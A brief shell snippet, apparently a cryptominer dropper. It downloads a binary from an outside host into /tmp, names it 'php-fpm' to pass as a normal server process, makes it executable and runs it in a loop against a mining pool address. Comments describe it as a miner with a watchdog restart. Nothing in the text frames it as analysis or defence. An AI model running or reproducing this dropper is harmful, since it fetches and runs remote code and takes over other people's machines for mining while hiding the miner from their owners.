# a watchdog loop restarts the miner whenever it ends; each life is 3 s
#http 203.0.113.50:8000
#pool 198.51.100.40:80:drop
cd /tmp; curl -so php-fpm http://203.0.113.50:8000/w; chmod +x php-fpm; for i in 1 2 3 4 5; do timeout 3 ./php-fpm -o 198.51.100.40:80 -u x >/dev/null; sleep 0.3; done
